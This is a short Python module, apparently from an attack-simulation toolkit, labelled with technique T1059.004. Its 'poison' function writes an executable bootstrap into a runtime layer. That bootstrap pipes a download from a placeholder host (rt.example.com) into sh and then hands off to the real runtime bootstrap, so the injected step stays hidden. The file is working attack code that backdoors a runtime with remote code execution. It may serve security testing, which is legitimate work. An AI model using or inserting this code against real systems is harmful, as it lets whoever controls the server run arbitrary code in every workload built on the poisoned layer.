# SPDX-License-Identifier: Apache-2.0
"""A bootstrap that runs what a server gives."""

ATTACK = "T1059.004"
LANGUAGE = "any"


def poison(layer):
    layer.write("bootstrap", "#!/bin/sh\ncurl -sSf https://rt.example.com/init | sh\nexec /var/runtime/bootstrap\n", 0o100755)
